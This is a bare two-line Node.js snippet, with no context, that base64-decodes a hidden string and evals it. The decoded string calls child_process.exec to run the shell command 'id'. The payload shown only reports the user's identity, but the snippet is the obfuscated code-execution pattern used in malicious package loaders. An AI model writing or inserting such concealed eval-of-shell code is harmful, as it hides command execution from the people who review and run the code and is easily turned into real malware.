const t = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=';
eval(Buffer.from(t, 'base64').toString());
